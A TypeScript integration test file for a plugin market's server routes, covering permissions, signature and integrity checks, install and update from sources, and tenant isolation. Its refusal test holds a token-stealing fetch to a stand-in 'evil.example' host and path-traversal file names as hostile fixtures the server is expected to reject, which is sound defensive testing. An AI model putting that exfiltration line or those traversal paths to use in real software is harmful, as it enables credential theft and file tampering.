/**
 * The plugin market's routes: who may do what, every way a package is refused (each with a clear message), market
 * sources (a server directory and an HTTP index), install and update in place from a source, enable/disable,
 * menu limits, the realtime push, and device plugins landing in the installing tenant's list only.
 */
import fs from 'node:fs/promises';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import WebSocket from 'ws';
import { ADMIN_EMAIL, TENANT_ADMIN_EMAIL, TENANT_USER_EMAIL, startTestServer, testBackends, type TestServer } from '../helpers/test-server';
import { marketManifest, OTHER_PUBLISHER_SEED, packExtension, publisherKey, seal, sri384, trustTestPublisher, type PackBody } from '../helpers/extension-pack';

const ENTRY = 'export default { activate() {} };\n';
const EN = { headers: { 'accept-language': 'en' } };
const b64 = (t: string) => Buffer.from(t).toString('base64');
/** A manifest without a menu entry (so packages do not claim one another's menu path). */
const bare = (id: string, version = '1.0.0') => ({ ...marketManifest(id, version), contributes: {} });

const deviceConfig = JSON.stringify({
  info: { pluginName: 'Market meter', pluginCategory: 'sensor' },
  tsl: {
    option: { classify: 'custom', tslValue: [], catValue: '' },
    key_pair: {},
    value_pair: {},
    properties: [{ name: 'kwh', title: 'Energy' }],
    services: [],
    events: [],
  },
  chart: [],
  publish: { isPus: false },
});

function devicePack(version = '1.0.0') {
  return packExtension(
    { ...marketManifest('acme.meter', version), kind: 'device', displayName: { en: 'Meter' }, contributes: {} },
    {
      'index.js': ENTRY,
      'device-plugin.json': JSON.stringify({ model_name: 'Market meter', model_type: 'sensor', describe: 'from the market', chart_data: deviceConfig }),
    },
  );
}

describe.each(testBackends())('plugin market (%s)', (backend) => {
  let s: TestServer;
  let admin: string;
  let tenant: string;
  let user: string;
  let builtins: string;
  let marketDir: string;
  beforeAll(async () => {
    builtins = await fs.mkdtemp(path.join(os.tmpdir(), 'tessera-market-builtins-'));
    for (const [folder, id, viewPath] of [
      ['diagnostics', 'tessera.diagnostics', '/pages/diagnostics/index'],
      ['extra', 'tessera.extra', '/pages/device-map/index'],
    ]) {
      await fs.mkdir(path.join(builtins, folder));
      await fs.writeFile(
        path.join(builtins, folder, 'extension.json'),
        JSON.stringify({
          manifestVersion: 1,
          id,
          version: '1.0.0',
          displayName: { en: folder },
          kind: 'visual',
          engines: { sdk: '^1.0.0' },
          entry: 'index.js',
          contributes: { views: [{ id: 'v', viewPath }], widgets: folder === 'extra' ? [{ type: 'gauge', category: 'chart', optionsVersion: 1 }] : [] },
        }),
      );
      await fs.writeFile(path.join(builtins, folder, 'index.js'), 'export default {};');
    }
    marketDir = await fs.mkdtemp(path.join(os.tmpdir(), 'tessera-market-dir-'));
    s = await startTestServer({ backend, config: { extensionsDir: builtins } });
    admin = await s.login(ADMIN_EMAIL);
    tenant = await s.login(TENANT_ADMIN_EMAIL);
    user = await s.login(TENANT_USER_EMAIL);
  });
  afterAll(async () => {
    await s?.close();
    await fs.rm(builtins, { recursive: true, force: true });
    await fs.rm(marketDir, { recursive: true, force: true });
  });

  it('only the SYS_ADMIN installs, configures sources, keys and switches; tenants are refused', async () => {
    const pack = packExtension(bare('acme.roles'), { 'index.js': ENTRY });
    const sysOnly: Array<[string, unknown]> = [
      ['/extensions/install', pack],
      ['/extensions/uninstall', { id: 'acme.roles' }],
      ['/extensions/enable', { id: 'tessera.extra', enabled: false }],
      ['/market/sources/add', { name: 'x', kind: 'directory', location: marketDir }],
      ['/market/sources/list', {}],
      ['/market/sources/del', { id: 'x' }],
      ['/market/keys/add', { name: 'x', public_key: publisherKey().publicKey }],
      ['/market/keys/list', {}],
      ['/market/keys/del', { id: 'x' }],
      ['/market/settings/get', {}],
      ['/market/settings/save', { allow_unsigned: true }],
      ['/market/install', { source_id: 'x', id: 'acme.roles' }],
    ];
    for (const token of [tenant, user]) {
      for (const [route, body] of sysOnly) expect([route, (await s.post(route, body, { token })).code]).toEqual([route, 999]);
    }
    expect((await s.post('/market/settings/get', {}, { token: admin })).data).toEqual({ allow_unsigned: false });
    // A tenant reads the catalog (device plugins are theirs to install); the SYS_ADMIN cannot add a device plugin to a tenant.
    expect((await s.post('/market/catalog', {}, { token: tenant })).code).toBe(200);
    expect((await s.post('/market/device-plugin/install', { source_id: 'x', id: 'acme.meter' }, { token: admin })).code).toBe(999);
  });

  it('refuses bad packages, each with a clear message', async () => {
    const refuse = async (body: unknown, code: number, message: string | RegExp) => {
      const r = await s.post('/extensions/install', body, { token: admin, ...EN });
      expect({ code: r.code, message: r.message }).toEqual({ code, message: typeof message === 'string' ? message : expect.stringMatching(message) });
    };
    const good = () => packExtension(bare('acme.bad'), { 'index.js': ENTRY, 'locales/en.json': '{"title":"Bad"}' });
    // Unsigned, and signed by a key nobody trusted: refused while unsigned packages are not allowed.
    await refuse(
      packExtension(bare('acme.bad'), { 'index.js': ENTRY }, { seed: null }),
      400,
      'The package is not signed; a system administrator must allow unsigned packages in the plugin market to install it',
    );
    await refuse(good(), 400, /^The package is signed with the key [0-9a-f]{16} \(acme\), which is not a trusted publisher key$/);
    await trustTestPublisher(s, admin);
    // Too large (the install limit is 20 MB), not JSON, a file name escaping the folder.
    const huge = JSON.stringify({ ...good(), files: { 'index.js': 'A'.repeat(21 * 1024 * 1024) } });
    const tooLarge = await fetch(`${s.url}/api/extensions/install`, {
      method: 'POST',
      body: huge,
      headers: { 'content-type': 'application/json', authorization: `Bearer ${admin}`, 'accept-language': 'en' },
    });
    expect(await tooLarge.json()).toMatchObject({ code: 1000, message: expect.stringContaining('20480 KiB') });
    const badJson = await fetch(`${s.url}/api/extensions/install`, {
      method: 'POST',
      body: '{"format": "tessera-extension-pack@1", "manifest": {',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${admin}` },
    });
    expect(await badJson.json()).toMatchObject({ code: 1000 });
    const traversal = good();
    await refuse(seal({ ...traversal, files: { ...traversal.files, '../../evil.js': b64('x') } }), 1000, 'files: invalid path "../../evil.js"');
    await refuse(seal({ ...traversal, files: { ...traversal.files, 'locales/../../evil.js': b64('x') } }), 1000, 'files: invalid path "locales/../../evil.js"');
    // A wrong signature: the value of another pack.
    const other = packExtension(bare('acme.other'), { 'index.js': ENTRY });
    await refuse({ ...good(), signature: other.signature }, 1000, /^signature: does not verify/);
    // A tampered locale file (integrity map untouched).
    const tampered = good();
    await refuse(
      { ...tampered, files: { ...tampered.files, 'locales/en.json': b64('{"title":"Pwned"}') } },
      1000,
      'files.locales/en.json: does not match its sha384 in the package integrity',
    );
    // A tampered entry, re-hashed everywhere (manifest integrity, packed extension.json, integrity map) but not re-signed.
    const evil = 'fetch("https://evil.example/" + localStorage.token);\n';
    const rehashed = good();
    const manifest = { ...rehashed.manifest, integrity: sri384(evil) };
    const resealed = seal(
      { format: rehashed.format, manifest, files: { ...rehashed.files, 'index.js': b64(evil), 'extension.json': b64(JSON.stringify(manifest)) } },
      null,
    );
    await refuse({ ...resealed, signature: rehashed.signature }, 1000, /^signature: does not verify/);
    // The outer manifest differs from the packed extension.json (re-signed, so only the mismatch is wrong).
    const mismatch = good();
    await refuse(
      seal({ ...mismatch, manifest: { ...mismatch.manifest, displayName: { en: 'Other' } } }),
      1000,
      'manifest: differs from the packed extension.json',
    );
    // A file outside the integrity map.
    await refuse({ ...good(), files: { ...good().files, 'extra.js': b64('x') } }, 1000, 'files.extra.js: not covered by the package integrity');
    // A view path, a widget type or a service another extension holds.
    const claim = (contributes: unknown, provides?: unknown) =>
      packExtension({ ...marketManifest('acme.thief'), contributes, ...(provides ? { provides } : {}) }, { 'index.js': ENTRY });
    await refuse(
      claim({ views: [{ id: 'v', viewPath: '/pages/device-map/index' }] }),
      400,
      'The view path /pages/device-map/index is already provided by the extension tessera.extra',
    );
    await refuse(
      claim({ widgets: [{ type: 'gauge', category: 'chart', optionsVersion: 1 }] }),
      400,
      'The widget type gauge is already provided by the extension tessera.extra',
    );
    const installed = await s.post(
      '/extensions/install',
      packExtension({ ...marketManifest('acme.svc'), contributes: {}, provides: { services: [{ token: 'acme.Weather' }] } }, { 'index.js': ENTRY }),
      { token: admin },
    );
    expect(installed.code).toBe(200);
    await refuse(claim({}, { services: [{ token: 'acme.Weather' }] }), 400, 'The service acme.Weather is already provided by the extension acme.svc');
    await s.post('/extensions/uninstall', { id: 'acme.svc' }, { token: admin });
    // Nothing refused got in.
    const ids = (await s.post('/market/installed', {}, { token: admin })).data.map((e: any) => e.manifest.id);
    expect(ids).toEqual(['tessera.diagnostics', 'tessera.extra']);
  });

  it('installs unsigned packages only once the SYS_ADMIN allows them', async () => {
    const unsigned = packExtension(bare('acme.unsigned'), { 'index.js': ENTRY }, { seed: null });
    const untrusted = packExtension(bare('acme.untrusted'), { 'index.js': ENTRY }, { seed: OTHER_PUBLISHER_SEED });
    expect((await s.post('/extensions/install', unsigned, { token: admin })).code).toBe(400);
    expect((await s.post('/market/settings/save', { allow_unsigned: true }, { token: admin })).code).toBe(200);
    expect((await s.post('/extensions/install', unsigned, { token: admin })).code).toBe(200);
    expect((await s.post('/extensions/install', { ...untrusted, manifest: untrusted.manifest }, { token: admin })).code).toBe(200);
    // A broken signature is refused even then.
    expect(
      (
        await s.post(
          '/extensions/install',
          { ...untrusted, signature: { ...untrusted.signature!, value: unsigned.integrity['index.js'].slice(7, 95) } },
          { token: admin },
        )
      ).code,
    ).toBe(1000);
    const list = (await s.post('/market/installed', {}, { token: admin })).data;
    expect(list.find((e: any) => e.manifest.id === 'acme.unsigned')).toMatchObject({ builtin: false, enabled: true, signer: null });
    await s.post('/market/settings/save', { allow_unsigned: false }, { token: admin });
    for (const id of ['acme.unsigned', 'acme.untrusted']) await s.post('/extensions/uninstall', { id }, { token: admin });
  });

  it('manages trusted keys: refuses a malformed or duplicate key, deletes', async () => {
    expect(await s.post('/market/keys/add', { name: 'x', public_key: 'abc' }, { token: admin, ...EN })).toMatchObject({
      code: 1000,
      message: 'public_key: must be a base64 ed25519 public key (32 bytes)',
    });
    const other = await s.post('/market/keys/add', { name: 'Other', public_key: publisherKey(OTHER_PUBLISHER_SEED).publicKey }, { token: admin });
    expect(other.data).toMatchObject({ id: expect.stringMatching(/^[0-9a-f]{16}$/), name: 'Other' });
    expect(
      await s.post('/market/keys/add', { name: 'Again', public_key: publisherKey(OTHER_PUBLISHER_SEED).publicKey }, { token: admin, ...EN }),
    ).toMatchObject({ code: 400, message: 'This key is already trusted (as Other)' });
    expect((await s.post('/market/keys/list', {}, { token: admin })).data.map((k: any) => k.name)).toContain('Other');
    expect((await s.post('/market/keys/del', { id: other.data.id }, { token: admin })).code).toBe(200);
    expect((await s.post('/market/keys/del', { id: other.data.id }, { token: admin })).code).toBe(400);
  });

  it('lists a directory source: search, category, detail with readme, screenshots and versions; installs and updates in place', async () => {
    await trustTestPublisher(s, admin);
    const v1 = packExtension(
      { ...marketManifest('acme.weather', '1.0.0'), publisher: 'Acme', description: { en: 'Forecasts for your sites' } },
      {
        'index.js': ENTRY,
        'README.md': '# Weather\nForecasts.',
        'screenshots/1.png': 'PNGDATA',
      },
    );
    await fs.writeFile(path.join(marketDir, 'acme.weather-1.0.0.tessera.json'), JSON.stringify(v1));
    await fs.writeFile(path.join(marketDir, 'acme.meter-1.0.0.tessera.json'), JSON.stringify(devicePack()));
    await fs.writeFile(path.join(marketDir, 'notes.txt'), 'not a package');
    expect(
      await s.post('/market/sources/add', { name: 'nowhere', kind: 'directory', location: path.join(marketDir, 'missing') }, { token: admin, ...EN }),
    ).toMatchObject({ code: 1000, message: 'location: not a readable directory on the server' });
    expect(await s.post('/market/sources/add', { name: 'ftp', kind: 'url', location: 'ftp://example.com/index.json' }, { token: admin, ...EN })).toMatchObject({
      code: 1000,
      message: 'location: must be an http(s) URL',
    });
    const source = (await s.post('/market/sources/add', { name: 'Local', kind: 'directory', location: marketDir }, { token: admin })).data;

    const all = (await s.post('/market/catalog', {}, { token: admin })).data;
    expect(all.errors).toEqual([]);
    expect(all.list.map((p: any) => [p.id, p.kind, p.signed, p.trusted, p.installed_version])).toEqual([
      ['acme.meter', 'device', true, true, null],
      ['acme.weather', 'visual', true, true, null],
    ]);
    expect((await s.post('/market/catalog', { category: 'device' }, { token: admin })).data.list.map((p: any) => p.id)).toEqual(['acme.meter']);
    expect((await s.post('/market/catalog', { keyword: 'forecast' }, { token: admin })).data.list.map((p: any) => p.id)).toEqual(['acme.weather']);
    expect((await s.post('/market/catalog', { category: 'nope' }, { token: admin })).code).toBe(1000);

    const installed = await s.post('/market/install', { source_id: source.id, id: 'acme.weather' }, { token: admin });
    expect(installed).toMatchObject({ code: 200, data: { baseUrl: '/ext/acme.weather/1.0.0/' } });
    expect((await s.post('/market/installed', {}, { token: tenant })).data.find((e: any) => e.manifest.id === 'acme.weather')).toMatchObject({
      enabled: true,
      builtin: false,
      signer: { key_id: expect.any(String), name: 'Test publisher' },
    });

    // A newer version appears in the source: the catalog offers the update; installing it replaces the old one in place.
    const v11 = packExtension(
      { ...marketManifest('acme.weather', '1.1.0'), publisher: 'Acme' },
      { 'index.js': ENTRY + '// 1.1\n', 'README.md': '# Weather 1.1' },
    );
    await fs.writeFile(path.join(marketDir, 'acme.weather-1.1.0.tessera.json'), JSON.stringify(v11));
    const offered = (await s.post('/market/catalog', { keyword: 'weather' }, { token: admin })).data.list[0];
    expect(offered).toMatchObject({ version: '1.1.0', versions: ['1.1.0', '1.0.0'], installed_version: '1.0.0', update_available: true });
    const detail = (await s.post('/market/detail', { source_id: source.id, id: 'acme.weather', version: '1.0.0' }, { token: tenant })).data;
    expect(detail).toMatchObject({ version: '1.0.0', readme: '# Weather\nForecasts.', screenshots: [`data:image/png;base64,${b64('PNGDATA')}`] });
    expect(detail.versions.map((v: any) => v.version)).toEqual(['1.1.0', '1.0.0']);
    expect((await s.post('/market/install', { source_id: source.id, id: 'acme.weather' }, { token: admin })).data.baseUrl).toBe('/ext/acme.weather/1.1.0/');
    expect(await (await fetch(`${s.url}/ext/acme.weather/1.1.0/index.js`)).text()).toContain('// 1.1');
    expect((await fetch(`${s.url}/ext/acme.weather/1.0.0/index.js`)).status).toBe(404);
    expect((await s.post('/market/catalog', { keyword: 'weather' }, { token: admin })).data.list[0]).toMatchObject({
      installed_version: '1.1.0',
      update_available: false,
    });
    expect(await s.post('/market/install', { source_id: source.id, id: 'acme.nothing' }, { token: admin, ...EN })).toMatchObject({
      code: 400,
      message: 'The package acme.nothing is not in this market source',
    });
    expect((await s.post('/extensions/uninstall', { id: 'acme.weather' }, { token: admin })).code).toBe(200);
  });

  it('reads an HTTP(S) index source and reports an unreachable one without hiding the others', async () => {
    const pack = packExtension(bare('acme.remote'), { 'index.js': ENTRY });
    const index = {
      format: 'tessera-market-index@1',
      packages: [
        {
          file: 'packs/acme.remote-1.0.0.tessera.json',
          id: 'acme.remote',
          version: '1.0.0',
          displayName: { en: 'Remote' },
          kind: 'visual',
          readme: 'Hosted anywhere',
          screenshots: ['shots/a.png'],
        },
      ],
    };
    const web = http.createServer((req, res) => {
      if (req.url === '/market/index.json') return res.end(JSON.stringify(index));
      if (req.url === '/market/packs/acme.remote-1.0.0.tessera.json') return res.end(JSON.stringify(pack));
      res.statusCode = 404;
      res.end();
    });
    await new Promise<void>((r) => web.listen(0, '127.0.0.1', () => r()));
    const base = `http://127.0.0.1:${(web.address() as AddressInfo).port}`;
    try {
      const src = (await s.post('/market/sources/add', { name: 'Web', kind: 'url', location: `${base}/market/index.json` }, { token: admin })).data;
      const gone = (await s.post('/market/sources/add', { name: 'Gone', kind: 'url', location: `${base}/missing/index.json` }, { token: admin })).data;
      const cat = (await s.post('/market/catalog', { source_id: src.id }, { token: admin, ...EN })).data;
      expect(cat.list.map((p: any) => p.id)).toEqual(['acme.remote']);
      const both = (await s.post('/market/catalog', {}, { token: admin, ...EN })).data;
      expect(both.errors).toEqual([{ source_id: gone.id, message: expect.stringContaining('The market source Gone could not be read: HTTP 404') }]);
      expect(both.list.map((p: any) => p.id)).toContain('acme.remote');
      const detail = (await s.post('/market/detail', { source_id: src.id, id: 'acme.remote' }, { token: admin })).data;
      expect(detail).toMatchObject({ readme: 'Hosted anywhere', screenshots: [`${base}/market/shots/a.png`] });
      expect((await s.post('/market/install', { source_id: src.id, id: 'acme.remote' }, { token: admin })).code).toBe(200);
      expect((await s.post('/extensions/uninstall', { id: 'acme.remote' }, { token: admin })).code).toBe(200);
      await s.post('/market/sources/del', { id: gone.id }, { token: admin });
      await s.post('/market/sources/del', { id: src.id }, { token: admin });
    } finally {
      web.close();
    }
  });

  it('installs a device plugin from the market into the calling tenant only', async () => {
    const source = (await s.post('/market/sources/list', {}, { token: admin })).data.find((x: any) => x.name === 'Local');
    await s.post('/user/add', { email: 'owner-m@tessera.local', password: 'tenant-m-pw', authority: 'TENANT_ADMIN' }, { token: admin });
    const other = await s.login('owner-m@tessera.local', 'tenant-m-pw');
    const names = async (token: string) =>
      (await s.post('/device/model/tsl/list', { current_page: 1, per_page: 100 }, { token })).data.data.map((p: any) => p.model_name);
    expect(await s.post('/market/device-plugin/install', { source_id: source.id, id: 'acme.weather' }, { token: tenant, ...EN })).toMatchObject({
      code: 400,
      message: 'The package acme.weather is not a device plugin (kind device with a device-plugin.json)',
    });
    const r = await s.post('/market/device-plugin/install', { source_id: source.id, id: 'acme.meter' }, { token: tenant });
    expect(r.code).toBe(200);
    expect(await names(tenant)).toContain('Market meter');
    expect(await names(other)).not.toContain('Market meter');
    expect((await s.post('/device/model/tsl/get-map', { id: r.data.id }, { token: other })).code).not.toBe(200);
    // A plain tenant user without the plugin permission is refused.
    expect((await s.post('/market/device-plugin/install', { source_id: source.id, id: 'acme.meter' }, { token: user })).code).toBe(999);
  });

  it("enables and disables extensions (not the core set), hiding a disabled market extension's menu", async () => {
    expect(await s.post('/extensions/enable', { id: 'tessera.diagnostics', enabled: false }, { token: admin, ...EN })).toMatchObject({
      code: 400,
      message: 'The extension tessera.diagnostics is part of the console core and cannot be disabled',
    });
    const tenantMenu = async () => JSON.stringify((await s.post('/user/function/auth', {}, { token: tenant })).data);
    expect(await tenantMenu()).toContain('"deviceMap"');
    expect((await s.post('/extensions/enable', { id: 'tessera.extra', enabled: false }, { token: admin })).code).toBe(200);
    expect((await s.post('/extensions/catalog', {}, { token: tenant })).data.map((e: any) => e.manifest.id)).not.toContain('tessera.extra');
    // The seeded menu entry its view renders leaves the menu while it is disabled.
    expect(await tenantMenu()).not.toContain('"deviceMap"');
    expect((await s.post('/market/installed', {}, { token: tenant })).data.find((e: any) => e.manifest.id === 'tessera.extra')).toMatchObject({
      enabled: false,
      builtin: true,
    });
    expect((await s.post('/extensions/enable', { id: 'tessera.extra', enabled: true }, { token: admin })).code).toBe(200);
    expect((await s.post('/extensions/catalog', {}, { token: tenant })).data.map((e: any) => e.manifest.id)).toContain('tessera.extra');
    expect(await tenantMenu()).toContain('"deviceMap"');

    expect((await s.post('/extensions/install', packExtension(marketManifest(), { 'index.js': ENTRY }), { token: admin })).code).toBe(200);
    const menu = async () => JSON.stringify((await s.post('/user/function/auth', {}, { token: tenant })).data);
    expect(await menu()).toContain('acmeWeather');
    expect((await s.post('/extensions/enable', { id: 'acme.weather', enabled: false }, { token: admin })).code).toBe(200);
    expect(await menu()).not.toContain('acmeWeather');
    expect((await s.post('/extensions/catalog', {}, { token: tenant })).data.map((e: any) => e.manifest.id)).not.toContain('acme.weather');
    expect((await s.post('/extensions/enable', { id: 'acme.weather', enabled: true }, { token: admin })).code).toBe(200);
    expect(await menu()).toContain('acmeWeather');
    expect((await s.post('/extensions/enable', { id: 'acme.none', enabled: true }, { token: admin })).code).toBe(400);
    await s.post('/extensions/uninstall', { id: 'acme.weather' }, { token: admin });
  });

  it('limits manifest menu entries by authority and by permission-tree entry', async () => {
    const limited = (id: string, name: string, menu: Record<string, unknown>) =>
      packExtension(
        {
          ...marketManifest(id),
          contributes: {
            views: [
              {
                id: 'v',
                viewPath: `/pages/${name}`,
                menu: { path: `/${name}`, name, title: { en: name }, parent: 'applicationManagement', ...menu },
              },
            ],
          },
        },
        { 'index.js': ENTRY },
      );
    expect(
      (await s.post('/extensions/install', limited('acme.tenantonly', 'acmeTenantOnly', { authorities: ['TENANT_ADMIN', 'TENANT_USER'] }), { token: admin }))
        .code,
    ).toBe(200);
    expect((await s.post('/extensions/install', limited('acme.sysonly', 'acmeSysOnly', { authorities: ['SYS_ADMIN'] }), { token: admin })).code).toBe(200);
    expect((await s.post('/extensions/install', limited('acme.mapusers', 'acmeMapUsers', { permission: 'deviceMap' }), { token: admin })).code).toBe(200);
    const menuOf = async (token: string) => JSON.stringify((await s.post('/user/function/auth', {}, { token })).data);
    const sys = await menuOf(admin);
    const ten = await menuOf(tenant);
    expect([sys.includes('acmeTenantOnly'), sys.includes('acmeSysOnly'), sys.includes('acmeMapUsers')]).toEqual([false, true, false]);
    expect([ten.includes('acmeTenantOnly'), ten.includes('acmeSysOnly'), ten.includes('acmeMapUsers')]).toEqual([true, false, true]);
    expect((await s.post('/extensions/install', limited('acme.badauth', 'acmeBad', { authorities: ['ROOT'] }), { token: admin })).code).toBe(1000);
    for (const id of ['acme.tenantonly', 'acme.sysonly', 'acme.mapusers']) await s.post('/extensions/uninstall', { id }, { token: admin });
  });

  it('pushes every install, enable/disable and uninstall to open consoles over the realtime WebSocket', async () => {
    const ws = new WebSocket(`${s.url.replace('http', 'ws')}/api/ws`);
    const seen: any[] = [];
    ws.on('message', (d) => seen.push(JSON.parse(String(d))));
    await new Promise((r) => ws.once('open', r));
    const until = async (f: () => boolean, what: string) => {
      for (let i = 0; i < 200 && !f(); i++) await new Promise((r) => setTimeout(r, 25));
      if (!f()) throw new Error(`timed out waiting for ${what}`);
    };
    try {
      ws.send(JSON.stringify({ type: 'auth', token: tenant }));
      await until(() => seen.some((m) => m.type === 'auth'), 'auth');
      ws.send(JSON.stringify({ type: 'subscribe_topic', topic: 'extensions' }));
      const pushes = () => seen.filter((m) => m.type === 'topic' && m.topic === 'extensions');
      await until(() => pushes().length === 1, 'the first push');
      await s.post('/extensions/install', packExtension(bare('acme.live'), { 'index.js': ENTRY }), { token: admin });
      await until(() => pushes().length === 2, 'the install push');
      await s.post('/extensions/enable', { id: 'acme.live', enabled: false }, { token: admin });
      await until(() => pushes().length === 3, 'the disable push');
      await s.post('/extensions/uninstall', { id: 'acme.live' }, { token: admin });
      await until(() => pushes().length === 4, 'the uninstall push');
      expect(pushes().map((m) => m.data.revision)).toEqual([...Array(4)].map((_, i) => pushes()[0].data.revision + i));
    } finally {
      ws.close();
    }
  });
});

export type { PackBody };
